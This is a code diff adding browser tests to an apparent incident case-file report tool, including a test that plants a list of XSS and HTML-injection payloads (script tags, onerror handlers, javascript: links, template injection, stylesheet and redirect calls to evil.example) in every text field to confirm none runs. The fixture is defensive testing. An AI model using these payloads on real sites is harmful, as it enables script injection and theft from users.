@@ -211,11 +211,122 @@ def review(browser):
         server.wait(10)
 
 
+def live(browser):
+    """The page of a collector that records this machine: incidents, nodes, a collection from the form to the sealed case file."""
+    sys.path.append(str(Path(__file__).resolve().parent.parent / "rest"))
+    from local import collector
+
+    with collector() as (at, token, _):
+        for size, (width, height) in SIZES.items():
+            scheme = "light" if size == "desk" else "dark"
+            context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+            page = context.new_page()
+            name = f"live-{size}"
+            watch(page, at, name)
+            page.goto(f"{at}/#token={token}")
+            text = shown(page, name)
+            if "INC-000001" not in text:
+                problems.append(f"{name}: the first incident is not listed")
+            if "token" in page.evaluate("location.href"):
+                problems.append(f"{name}: the token stays in the address")
+            take(page, f"{name}-incidents")
+            page.evaluate("location.hash = '#screen=nodes'")
+            until(page, "document.querySelector('#screen').innerText.includes('connected')")
+            shown(page, name)
+            take(page, f"{name}-nodes")
+            page.evaluate("location.hash = '#screen=collect'")
+            until(page, "document.querySelector('form.collect-screen')")
+            page.locator("form label.field:has-text('title') input").fill("<b>opened</b> from the page")
+            page.locator("form label.field:has-text('reason') input").fill("a test of the form")
+            take(page, f"{name}-collect")
+            page.locator("form button[type=submit]").click()
+            until(page, "document.querySelector('.progress-screen table')")
+            take(page, f"{name}-progress")
+            until(page, "[...document.querySelectorAll('.progress-screen button')].some((b) => b.innerText === 'open the case file')", 90)
+            page.wait_for_timeout(300)
+            take(page, f"{name}-sealed")
+            if "<b>opened</b> from the page" not in page.inner_text("#screen"):
+                problems.append(f"{name}: the title is not told as it was typed")
+            with page.expect_download() as download:
+                page.locator(".progress-screen button.link", has_text="download").first.click()
+            if Path(download.value.path()).stat().st_size < 10000:
+                problems.append(f"{name}: the download is not whole")
+            page.get_by_text("open the case file").click()
+            until(page, "document.querySelector('.verdict-screen')", 90)
+            shown(page, name)
+            take(page, f"{name}-verdict")
+            for screen in SCREENS:
+                page.evaluate(f"location.hash = location.hash.replace(/screen=[a-z]+(&view=lines)?/, 'screen={screen}')")
+                page.wait_for_timeout(200)
+                shown(page, f"{name}-{screen}")
+            take(page, f"{name}-case")
+            context.close()
+
+
+# What a careless page would run, follow or fetch.
+PAYLOADS = [
+    "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "\"><img src=x onerror=pwned()>", "</script><script>pwned()</script>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>", "<details open ontoggle=pwned()>",
+    "javascript:pwned()", "{{constructor.constructor('pwned()')()}}", "${pwned()}", "' onmouseover='pwned()", "<style>@import 'https://evil.example/x';</style>",
+    "<link rel=stylesheet href=https://evil.example/x>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
+    "\u202e<script>pwned()</script>", "<!--<script>pwned()-->", "__proto__", "<form action=https://evil.example><input autofocus onfocus=pwned()>",
+]
+TEXTS = ["summary", "meaning", "now", "text", "message", "template", "sample", "title", "reason", "detail", "why", "label", "kind", "subject", "what", "sentence", "words", "name", "entry", "id", "check", "requested_by"]
+
+
+def hostile(browser):
+    """The report with hostile texts in every place where text stands, and its policy taken away: nothing runs, nothing is fetched."""
+    page_text = (OUT / "report.html").read_text()
+    match = re.search(r'<script id="casefile-data" type="application/json">(.*?)</script>', page_text, re.S)
+    placed = 0
+
+    def poison(value, name=None):
+        nonlocal placed
+        if isinstance(value, dict):
+            return {key: poison(one, key) for key, one in value.items()}
+        if isinstance(value, list):
+            return [poison(one, name) for one in value]
+        if isinstance(value, str) and name in TEXTS and not re.fullmatch(r"[FE]\d+|INC-\d+", value):
+            placed += 1
+            return PAYLOADS[placed % len(PAYLOADS)] + value[:20]
+        return value
+
+    data = json.dumps(poison(json.loads(match[1]))).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
+    page_text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page_text[: match.start(1)] + data + page_text[match.end(1) :])
+    path = OUT / "hostile.html"
+    path.write_text(page_text)
+    if placed < 500 or "Content-Security-Policy" in page_text.split("</head>")[0].split("<style>")[0]:
+        problems.append(f"hostile: only {placed} texts, or the policy is still there")
+    context = browser.new_context(viewport={"width": 1440, "height": 900})
+    for screen in SCREENS:
+        page = context.new_page()
+        name = f"hostile-{re.sub('[^a-z]+', '-', screen)}"
+        watch(page, path.as_uri(), name)
+        page.on("dialog", lambda d: (problems.append(f"{name}: a dialog"), d.dismiss()))
+        page.add_init_script("window.pwned = () => { window.ran = true; }")
+        page.goto(f"{path.as_uri()}#screen={screen}")
+        page.wait_for_timeout(700)
+        if screen == "verdict":
+            page.evaluate("for (const row of document.querySelectorAll('details')) row.open = true")
+            page.wait_for_timeout(300)
+        if page.evaluate("window.ran === true"):
+            problems.append(f"{name}: a text ran")
+        made = page.evaluate("document.querySelectorAll('#app script, #app img, #app iframe, #app svg, #app style, #app link, #app meta, #app base, #app form, #app object, #app [onerror], #app [onload], #app a[href]').length")
+        if made:
+            problems.append(f"{name}: {made} elements were made out of text")
+        take(page, name)
+        page.close()
+    context.close()
+    print(f"hostile: {placed} texts in the report, no policy, nothing ran")
+
+
 def main():
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"), args=["--no-sandbox", "--disable-gpu"])
         report(browser)
+        hostile(browser)
         review(browser)
+        live(browser)
         browser.close()
     print(f"pictures: {OUT}")
     for problem in sorted(set(problems)):
